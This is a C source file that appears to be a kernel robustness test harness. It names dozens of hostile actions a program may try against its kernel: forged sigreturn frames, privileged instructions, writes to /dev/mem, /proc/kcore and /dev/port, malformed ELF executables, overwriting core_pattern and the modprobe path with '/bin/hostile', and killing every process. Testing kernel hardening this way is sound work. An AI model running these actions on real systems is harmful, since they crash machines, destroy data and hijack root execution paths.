// SPDX-License-Identifier: GPL-2.0-only
/* What a program may do to its kernel, one attack a word; without a word, their names. Build it with -static. */
#define _GNU_SOURCE
#include <elf.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <string.h>
#include <sys/epoll.h>
#include <sys/io.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/resource.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <ucontext.h>
#include <unistd.h>

#define KERNEL		0xffffffff81000000UL
#define DIRECT		0xffff888000000000UL
#define NOT_CANONICAL	0x8000000000000000UL
#define STUBS		0xffffffffbe000000UL
#define LAST		0x00007ffffffff000UL
#define VSYSCALL	0xffffffffff600000UL

static char page[4096] __attribute__((aligned(4096)));

static void ignore(int signal)
{
}

static void jump(unsigned long to)
{
	__asm__ volatile("jmp *%0" : : "r"(to));
}

static void stack(unsigned long at)
{
	__asm__ volatile("mov %0, %%rsp\n\tpush %%rax\n\tmov $39, %%eax\n\tsyscall" : : "r"(at));
}

static void flags(unsigned long set)
{
	__asm__ volatile("pushfq\n\torq %0, (%%rsp)\n\tpopfq\n\tnop\n\tmov $39, %%eax\n\tsyscall" : : "r"(set) : "rax", "rcx", "r11");
}

/* rt_sigreturn(2) of a frame that is no frame. */
static void return_from(int byte)
{
	memset(page, byte, sizeof(page));
	__asm__ volatile("mov %0, %%rsp\n\tmov $15, %%eax\n\tsyscall" : : "r"(page + 8));
}

static greg_t to[3];

static void forge(int signal, siginfo_t *info, void *context)
{
	greg_t *registers = ((ucontext_t *)context)->uc_mcontext.gregs;

	registers[REG_RIP] = to[0];
	registers[REG_CSGSFS] = to[1];
	registers[REG_EFL] = to[2];
}

static void return_to(unsigned long address, unsigned long selectors, unsigned long set)
{
	struct sigaction action = { .sa_sigaction = forge, .sa_flags = SA_SIGINFO };

	to[0] = address, to[1] = selectors, to[2] = set;
	sigaction(SIGUSR1, &action, NULL);
	raise(SIGUSR1);
}

/* Read, write and map a file at hostile places. */
static void all_of(const char *path)
{
	static const off_t places[] = { 0, 0xa0000, 0xfee00000, 1L << 38, -4096, LAST };
	int n, file = open(path, O_RDWR);

	for (n = 0; n < 6; n++) {
		char *mapped = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, file, places[n]);

		pread(file, page, sizeof(page), places[n]);
		pwrite(file, page, 8, places[n]);
		if (mapped != MAP_FAILED)
			*(volatile char *)mapped = 1;
	}
}

static void set(const char *path, const char *text)
{
	int file = open(path, O_WRONLY);

	write(file, text, strlen(text));
	close(file);
}

/* Execute a file with one lie in its headers. */
static void execute(Elf64_Phdr lie, Elf64_Ehdr head)
{
	Elf64_Phdr parts[] = { { PT_LOAD, 7, 0, 0x400000, 0x400000, 4096, 4096, 4096 }, lie };
	char *words[] = { "/tmp/elf", NULL };
	int file = open(words[0], O_CREAT | O_TRUNC | O_RDWR, 0777);

	memcpy(head.e_ident, "\177ELF\2\1\1", 7);
	head.e_machine = EM_X86_64, head.e_version = 1, head.e_phentsize = sizeof(lie);
	head.e_type = head.e_type ?: ET_EXEC, head.e_phoff = head.e_phoff ?: 64, head.e_phnum = head.e_phnum ?: 2;
	head.e_entry = head.e_entry ?: 0x400ff0;
	write(file, &head, 64);
	write(file, parts, sizeof(parts));
	pwrite(file, words[0], 9, 2048);
	ftruncate(file, 8192);
	close(file);
	alarm(1);
	execv(words[0], words);
}

static void compatible(unsigned int call)
{
	__asm__ volatile("int $0x80" : : "a"(call), "b"(-1), "c"(KERNEL), "d"(page) : "memory", "r8", "r9", "r10", "r11");
}

static void each_call(long first, long last)
{
	for (; first < last; first++) {
		if (!fork()) {
			alarm(1);
			syscall(first, -1L, -1L, -1L, -1L, -1L, -1L);
			syscall(first, page, page, page, page, page, page);
			syscall(first, DIRECT, KERNEL, NOT_CANONICAL, LAST, 8, 8);
			_exit(0);
		}
		wait(NULL);
	}
}

static void timers_that_stay(void)
{
	struct itimerspec period = { { 0, 1000000 }, { 0, 1000000 } };
	timer_t timer;

	alarm(1);
	while (!timer_create(CLOCK_MONOTONIC, NULL, &timer) && !timer_settime(timer, 0, &period, NULL) && (long)timer < 20)
		;
}

static void file_systems(void)
{
	static const char *types[] = { "sysfs", "tmpfs", "proc", "cgroup", "cgroup2", "cpuset", "devpts", "bpf", "ramfs" };
	unsigned n;

	mkdir("/m", 0777);
	for (n = 0; n < sizeof(types) / sizeof(*types); n++) {
		mount("/dev/zero", "/m", types[n], 0, page);
		mount("/tmp", "/m", types[n], 0, "x=1,mode=777777777777,size=99999999999999");
		umount2("/m", MNT_DETACH);
	}
}

static void polls_within_polls(void)
{
	struct epoll_event event = { .events = EPOLLIN };
	int n, inner, outer = epoll_create1(0);

	for (n = 0; n < 100; n++, outer = inner) {
		inner = epoll_create1(0);
		epoll_ctl(inner, EPOLL_CTL_ADD, outer, &event);
		epoll_ctl(outer, EPOLL_CTL_ADD, inner, &event);
	}
	epoll_wait(outer, &event, 1, 10);
}

static void segments(void)
{
	unsigned n, entry[4] = { 0, 0, 0xfffff, 0x7f };

	for (n = 0; n < 64; n++) {
		entry[0] = n, entry[3] = n;
		syscall(SYS_modify_ldt, 1, entry, sizeof(entry));
	}
	for (n = 0; n < 1024; n++)
		__asm__ volatile("mov %0, %%gs\n\tmov %0, %%es" : : "r"(n));
}

#define INSTRUCTION(bytes) __asm__ volatile(".byte " bytes : : "a"(page), "b"(page), "c"(0xc0000080), "d"(0) : "memory")
#define NO_PART (Elf64_Phdr){ 0 }
#define PART(at, ...) (Elf64_Phdr){ .p_type = PT_LOAD, .p_flags = 6, .p_vaddr = (at), __VA_ARGS__ }
#define HEAD(...) (Elf64_Ehdr){ __VA_ARGS__ }

#define ATTACKS(X)									\
	X(jump_to_the_kernel, jump(KERNEL)) X(jump_to_the_stubs, jump(STUBS))		\
	X(jump_to_nothing, jump(0)) X(jump_not_canonical, jump(NOT_CANONICAL))		\
	X(jump_to_the_end, jump(LAST - 1)) X(jump_to_vsyscall, jump(VSYSCALL + 0x800))	\
	X(stack_of_nothing, stack(0)) X(stack_of_the_kernel, stack(DIRECT + 4096))	\
	X(stack_not_canonical, stack(NOT_CANONICAL)) X(stack_at_the_end, stack(LAST))	\
	X(flag_single_step, flags(0x100)) X(flag_direction, flags(0x400))		\
	X(flag_nested_task, flags(0x4000)) X(flag_alignment, flags(0x40000))		\
	X(flags_all, flags(-1)) X(single_steps_handled, signal(SIGTRAP, SIG_IGN); flags(0x100)) \
	X(halt, INSTRUCTION("0xf4")) X(interrupts_off, INSTRUCTION("0xfa"))		\
	X(write_msr, INSTRUCTION("0x0f, 0x30")) X(load_gdt, INSTRUCTION("0x0f, 0x01, 0x10")) \
	X(load_idt, INSTRUCTION("0x0f, 0x01, 0x18")) X(load_root, INSTRUCTION("0x0f, 0x22, 0xd8")) \
	X(swap_gs, INSTRUCTION("0x0f, 0x01, 0xf8")) X(system_return, INSTRUCTION("0x48, 0x0f, 0x07")) \
	X(interrupt_return, INSTRUCTION("0x48, 0xcf")) X(interrupt_2, INSTRUCTION("0xcd, 0x02")) \
	X(interrupt_8, INSTRUCTION("0xcd, 0x08")) X(interrupt_32, INSTRUCTION("0xcd, 0x20")) \
	X(interrupt_255, INSTRUCTION("0xcd, 0xff")) X(hypercall, INSTRUCTION("0x0f, 0x01, 0xc1")) \
	X(system_management, INSTRUCTION("0x0f, 0xaa")) X(far_jump, INSTRUCTION("0x48, 0xff, 0x28")) \
	X(sigreturn_of_zeros, return_from(0)) X(sigreturn_of_ones, return_from(0xff))	\
	X(sigreturn_to_the_kernel, return_to(KERNEL, 0x10, -1))				\
	X(sigreturn_not_canonical, return_to(NOT_CANONICAL, 0x2b000000000033, 0))	\
	X(sigreturn_without_segments, return_to((unsigned long)ignore, 0, -1))		\
	X(memory_of_the_machine, all_of("/dev/mem")) X(ports, all_of("/dev/port"))	\
	X(core_of_the_kernel, all_of("/proc/kcore")) X(own_memory, all_of("/proc/self/mem")) \
	X(ports_of_all, iopl(3); for (int n = 0; n < 65536; n++) outb(0xff, n))		\
	X(segments, segments()) X(file_systems, file_systems())				\
	X(timers_that_stay, timers_that_stay()) X(polls_within_polls, polls_within_polls()) \
	X(pattern_of_cores, set("/proc/sys/kernel/core_pattern", "|/bin/hostile halt"); *(volatile char *)8 = 1) \
	X(modprobe, set("/proc/sys/kernel/modprobe", "/bin/hostile"); syscall(SYS_socket, 38, 5, 0)) \
	X(name_of_lines, prctl(PR_SET_NAME, "\n\033[2J"); *(volatile char *)8 = 1)	\
	X(kills_all, signal(SIGTERM, ignore); kill(-1, SIGTERM); kill(1, SIGKILL))	\
	X(without_itself, munmap((void *)((unsigned long)ignore & ~4095UL), 4096))	\
	X(everything_unmapped, munmap(NULL, LAST)) X(stack_that_grows, static char *at; for (at = page;; at -= 4096) *at = 1) \
	X(robust_list_of_the_kernel, syscall(SYS_set_robust_list, KERNEL, 24))		\
	X(thread_pointer, syscall(SYS_arch_prctl, 0x1002, LAST); raise(SIGUSR1))	\
	X(kernel_replaced, syscall(SYS_kexec_load, 0, 16, page, 0x3e0000))		\
	X(modules_of_anything, syscall(SYS_finit_module, open("/dev/zero", 0), "", 0); syscall(SYS_init_module, 8, -1L, 8)) \
	X(calls_of_32_bits, for (int n = 2; n < 250; n += 7) compatible(n))		\
	X(calls_of_no_number, for (long n = 460; n < 100000; n += 997) syscall(n); syscall(-1L)) \
	X(calls_of_files, each_call(0, 12)) X(calls_of_sockets, each_call(41, 56))	\
	X(elf_entry_in_the_kernel, execute(NO_PART, HEAD(.e_entry = KERNEL)))		\
	X(elf_entry_not_canonical, execute(NO_PART, HEAD(.e_entry = NOT_CANONICAL)))	\
	X(elf_parts_without_end, execute(NO_PART, HEAD(.e_phnum = 65535)))		\
	X(elf_parts_elsewhere, execute(NO_PART, HEAD(.e_phoff = -56)))			\
	X(elf_size_of_all, execute(PART(0x600000, .p_memsz = -1), HEAD()))			\
	X(elf_size_huge, execute(PART(0x600000, .p_memsz = 1UL << 46), HEAD()))			\
	X(elf_file_size_of_all, execute(PART(0x600000, .p_filesz = -1, .p_memsz = -1), HEAD()))	\
	X(elf_in_the_kernel, execute(PART(DIRECT, .p_memsz = 4096), HEAD()))	\
	X(elf_over_itself, execute(PART(0x400000, .p_memsz = 4096), HEAD()))	\
	X(elf_of_odd_alignment, execute(PART(0x600000, .p_align = 3, .p_offset = -4096), HEAD()))	\
	X(elf_at_the_end, execute(PART(-4096, .p_memsz = 4096), HEAD(.e_type = ET_DYN))) \
	X(elf_stack_of_all, execute((Elf64_Phdr){ PT_GNU_STACK, 7, .p_memsz = -1 }, HEAD())) \
	X(elf_notes_of_a_gigabyte, execute((Elf64_Phdr){ PT_GNU_PROPERTY, 4, .p_filesz = 1 << 30 }, HEAD())) \
	X(elf_that_interprets_itself, execute((Elf64_Phdr){ PT_INTERP, 4, 2048, .p_filesz = 9, .p_memsz = 9 }, HEAD()))

#include "attacks.h"
